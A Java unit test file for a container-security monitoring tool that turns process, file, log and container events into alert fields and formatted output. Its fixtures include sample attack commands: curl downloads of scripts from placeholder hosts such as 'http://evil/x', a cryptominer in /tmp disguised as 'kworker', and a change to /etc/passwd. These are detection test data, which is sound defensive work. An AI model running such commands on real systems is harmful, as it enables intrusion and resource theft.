package dev.vigil.alert;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.entry;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.vigil.event.ContainerLifecycle;
import dev.vigil.event.ContainerRef;
import dev.vigil.event.EngineEvent;
import dev.vigil.event.Event;
import dev.vigil.event.ExecOrigin;
import dev.vigil.event.FileChange;
import dev.vigil.event.LogLine;
import dev.vigil.event.ProcessExec;
import dev.vigil.event.StatsSample;
import java.time.Instant;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class AlertFactoryTest {

  private static final Instant T = Instant.parse("2026-01-02T03:04:05.000000123Z");
  private static final String FULL_ID = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
  private static final ContainerRef WEB = new ContainerRef(FULL_ID, "web", "nginx", "1.25", "sha256:abc");
  private static final ContainerRef NO_DIGEST = new ContainerRef(FULL_ID, "web", "nginx", "1.25", "");

  private final AlertFactory factory = new AlertFactory("node-7");

  private static ProcessExec exec(List<String> args) {
    return new ProcessExec(T, WEB, "docker.top", 4321, 1, "curl", "/usr/bin/curl", args, 0, "root", "",
        ExecOrigin.DOCKER_EXEC, "exec-1");
  }

  private static ProcessExec exec(long ppid, long uid, String user, String exe) {
    return new ProcessExec(T, WEB, "docker.top", 99, ppid, "sh", exe, List.of("sh"), uid, user, "", ExecOrigin.UNKNOWN,
        "");
  }

  // ---- EventFields ----

  @Test
  void eventFields_containerId_isTwelveCharShortId() {
    Map<String, Object> f = EventFields.of(exec(List.of("curl")));
    assertThat(f.get("container.id")).isEqualTo("0123456789ab");
    assertThat((String) f.get("container.id")).hasSize(12);
  }

  @Test
  void eventFields_shortContainerId_isKeptAsIs() {
    FileChange fc = new FileChange(T, ContainerRef.HOST, "s", "/x", FileChange.Kind.ADDED);
    assertThat(EventFields.of(fc).get("container.id")).isEqualTo("host");
  }

  @Test
  void eventFields_commonFields_arePresent() {
    Map<String, Object> f = EventFields.of(exec(List.of("curl")));
    assertThat(f).contains(
        entry("evt.time", T.getEpochSecond() * 1_000_000_000L + 123),
        entry("container.name", "web"),
        entry("container.image.repository", "nginx"),
        entry("container.image.tag", "1.25"),
        entry("container.image.digest", "sha256:abc"),
        entry("vigil.sensor", "docker.top"));
  }

  @Test
  void eventFields_emptyDigest_isAbsent() {
    FileChange fc = new FileChange(T, NO_DIGEST, "s", "/x", FileChange.Kind.ADDED);
    assertThat(EventFields.of(fc)).doesNotContainKey("container.image.digest");
  }

  @Test
  void eventFields_procCmdline_isNameAndArgsAfterArgv0() {
    ProcessExec p = exec(List.of("/usr/bin/curl", "-s", "http://x/y.sh"));
    assertThat(EventFields.of(p).get("proc.cmdline")).isEqualTo("curl -s http://x/y.sh");
  }

  @Test
  void eventFields_procCmdline_argv0DifferentFromName_usesName() {
    ProcessExec p = new ProcessExec(T, WEB, "s", 1, 0, "kworker", "", List.of("/tmp/.x/miner", "--donate", "0"), -1,
        "", "", ExecOrigin.CONTAINER, "");
    assertThat(EventFields.of(p).get("proc.cmdline")).isEqualTo("kworker --donate 0");
  }

  @Test
  void eventFields_procCmdline_noArgs_isName() {
    assertThat(EventFields.of(exec(List.of())).get("proc.cmdline")).isEqualTo("curl");
    assertThat(EventFields.of(exec(List.of("curl"))).get("proc.cmdline")).isEqualTo("curl");
  }

  @Test
  void eventFields_process_knownValues() {
    Map<String, Object> f = EventFields.of(exec(List.of("curl", "-I", "x")));
    assertThat(f).contains(
        entry("proc.name", "curl"),
        entry("proc.exepath", "/usr/bin/curl"),
        entry("proc.pid", 4321L),
        entry("proc.ppid", 1L),
        entry("user.uid", 0L),
        entry("user.name", "root"),
        entry("proc.exe_origin", "docker_exec"));
  }

  @Test
  void eventFields_process_unknownValues_areNull() {
    Map<String, Object> f = EventFields.of(exec(0, -1, "", ""));
    assertThat(f).containsEntry("proc.ppid", null).containsEntry("user.uid", null)
        .containsEntry("user.name", null).containsEntry("proc.exepath", null)
        .containsEntry("proc.exe_origin", "unknown");
  }

  @Test
  void eventFields_fileChange() {
    FileChange fc = new FileChange(T, WEB, "docker.diff", "/etc/passwd", FileChange.Kind.MODIFIED);
    assertThat(EventFields.of(fc)).contains(entry("fd.name", "/etc/passwd"), entry("fs.change", "modified"))
        .doesNotContainKey("proc.name");
  }

  @Test
  void eventFields_logLine_truncatedAddsTruncationFields() {
    LogLine l = new LogLine(T, WEB, "docker.logs", LogLine.Stream.STDERR, "abc", true, 99_999);
    assertThat(EventFields.of(l)).contains(entry("log.stream", "stderr"), entry("log.line", "abc"),
        entry("log.truncated", true), entry("log.bytes", 99_999L));
  }

  @Test
  void eventFields_logLine_notTruncated_hasNoTruncationFields() {
    LogLine l = new LogLine(T, WEB, "docker.logs", LogLine.Stream.STDOUT, "abc", false, 3);
    assertThat(EventFields.of(l)).containsEntry("log.stream", "stdout")
        .doesNotContainKeys("log.truncated", "log.bytes");
  }

  @Test
  void eventFields_stats() {
    StatsSample s = new StatsSample(T, WEB, "docker.stats", 150.5, 1024, 2048, 0, 0, 0, 0, 0, 0, 12);
    assertThat(EventFields.of(s)).contains(entry("stats.cpu", 150.5), entry("stats.memory", 1024L),
        entry("stats.pids", 12L));
  }

  @Test
  void eventFields_lifecycle_detailOnlyWhenPresent() {
    ContainerLifecycle withDetail = new ContainerLifecycle(T, WEB, "docker.events", "exec_start", "sh -c id",
        Map.of());
    ContainerLifecycle noDetail = new ContainerLifecycle(T, WEB, "docker.events", "start", null, Map.of());
    assertThat(EventFields.of(withDetail)).contains(entry("docker.action", "exec_start"),
        entry("docker.detail", "sh -c id"));
    assertThat(EventFields.of(noDetail)).containsEntry("docker.action", "start")
        .doesNotContainKey("docker.detail");
  }

  // ---- AlertFactory ----

  @Test
  void create_copiesEventMetadataAndHostname() {
    ProcessExec p = exec(List.of("curl"));
    Alert a = factory.create(p, "R", Priority.NOTICE, OutputTemplate.parse("x"), List.of("t1", "t2"), Map.of());
    assertThat(a.time()).isEqualTo(T);
    assertThat(a.rule()).isEqualTo("R");
    assertThat(a.priority()).isEqualTo(Priority.NOTICE);
    assertThat(a.tags()).containsExactly("t1", "t2");
    assertThat(a.hostname()).isEqualTo("node-7");
    assertThat(factory.hostname()).isEqualTo("node-7");
  }

  @Test
  void create_rendersTemplateAgainstEventAndExtraFields() {
    ProcessExec p = exec(List.of("/usr/bin/curl", "-O", "http://evil/x"));
    Alert a = factory.create(p, "R", Priority.NOTICE,
        OutputTemplate.parse("tool=%vigil.tool cmd=%proc.cmdline id=%container.id image=%container.image.repository"
            + ":%container.image.tag."),
        List.of(), Map.of("vigil.tool", "curl"));
    assertThat(a.output()).isEqualTo("tool=curl cmd=curl -O http://evil/x id=0123456789ab image=nginx:1.25.");
    assertThat(a.outputFields()).containsEntry("vigil.tool", "curl").containsEntry("container.id", "0123456789ab")
        .containsEntry("proc.cmdline", "curl -O http://evil/x");
  }

  @Test
  void create_templateFieldMissingFromEvent_isNullInFieldsAndNAInOutput() {
    FileChange fc = new FileChange(T, WEB, "docker.diff", "/etc/x", FileChange.Kind.ADDED);
    Alert a = factory.create(fc, "R", Priority.ERROR,
        OutputTemplate.parse("file=%fd.name user=%user.name pid=%proc.pid"), List.of(), Map.of());
    assertThat(a.output()).isEqualTo("file=/etc/x user=<NA> pid=<NA>");
    assertThat(a.outputFields()).containsKeys("user.name", "proc.pid");
    assertThat(a.outputFields().get("user.name")).isNull();
    assertThat(a.outputFields().get("proc.pid")).isNull();
  }

  @Test
  void create_templateFieldMissing_isSerializedAsJsonNull() throws Exception {
    FileChange fc = new FileChange(T, WEB, "docker.diff", "/etc/x", FileChange.Kind.ADDED);
    Alert a = factory.create(fc, "R", Priority.ERROR, OutputTemplate.parse("user=%user.name"), List.of(), Map.of());
    JsonNode n = new ObjectMapper().readTree(FalcoJson.toJson(a));
    assertThat(n.get("output_fields").has("user.name")).isTrue();
    assertThat(n.get("output_fields").get("user.name").isNull()).isTrue();
    assertThat(n.get("output").asText()).endsWith("Error user=<NA>");
    assertThat(n.get("output_fields").get("container.id").asText()).isEqualTo("0123456789ab");
  }

  @Test
  void create_eventFieldWithNullValue_printsNAAndStaysNull() {
    ProcessExec p = exec(0, -1, "", "");
    Alert a = factory.create(p, "R", Priority.NOTICE, OutputTemplate.parse("user=%user.name uid=%user.uid"),
        List.of(), Map.of());
    assertThat(a.output()).isEqualTo("user=<NA> uid=<NA>");
    assertThat(a.outputFields()).containsEntry("user.name", null).containsEntry("user.uid", null);
  }

  @Test
  void create_extraFieldOverridesEventField() {
    ProcessExec p = exec(List.of("curl"));
    Alert a = factory.create(p, "R", Priority.NOTICE, OutputTemplate.parse("%proc.name"), List.of(),
        Map.of("proc.name", "override"));
    assertThat(a.output()).isEqualTo("override");
    assertThat(a.outputFields()).containsEntry("proc.name", "override");
  }

  @Test
  void create_extraFieldWithNullValue_isAccepted() {
    Map<String, Object> extra = new HashMap<>();
    extra.put("vigil.x", null);
    Alert a = factory.create(exec(List.of("curl")), "R", Priority.NOTICE, OutputTemplate.parse("x=%vigil.x"),
        List.of(), extra);
    assertThat(a.output()).isEqualTo("x=<NA>");
    assertThat(a.outputFields()).containsEntry("vigil.x", null);
  }

  @Test
  void create_outputFields_startWithEventFieldsInOrder() {
    Alert a = factory.create(exec(List.of("curl")), "R", Priority.NOTICE, OutputTemplate.parse("%zzz"), List.of(),
        Map.of("vigil.tool", "curl"));
    List<String> keys = List.copyOf(a.outputFields().keySet());
    assertThat(keys.get(0)).isEqualTo("evt.time");
    assertThat(keys.get(1)).isEqualTo("container.id");
    assertThat(keys).endsWith("vigil.tool", "zzz");
  }

  @Test
  void create_outputFields_areUnmodifiable() {
    Alert a = factory.create(exec(List.of("curl")), "R", Priority.NOTICE, OutputTemplate.parse("x"), List.of(),
        Map.of());
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> a.outputFields().put("k", "v"))
        .isInstanceOf(UnsupportedOperationException.class);
  }

  @Test
  void create_sourceFollowsEventKind() {
    Map<String, String> attrs = Map.of();
    List<Event> events = List.of(
        exec(List.of("curl")),
        new FileChange(T, WEB, "s", "/x", FileChange.Kind.ADDED),
        new LogLine(T, WEB, "s", LogLine.Stream.STDOUT, "l", false, 1),
        new StatsSample(T, WEB, "s", 1, 1, 1, 0, 0, 0, 0, 0, 0, 1),
        new ContainerLifecycle(T, WEB, "s", "start", "", attrs),
        new EngineEvent(T, ContainerRef.HOST, "s", "image", "pull", "nginx", attrs));
    List<String> sources = events.stream()
        .map(e -> factory.create(e, "R", Priority.NOTICE, OutputTemplate.parse("x"), List.of(), Map.of()).source())
        .toList();
    assertThat(sources).containsExactly("syscall", "syscall", "log", "stats", "docker", "docker");
  }
}
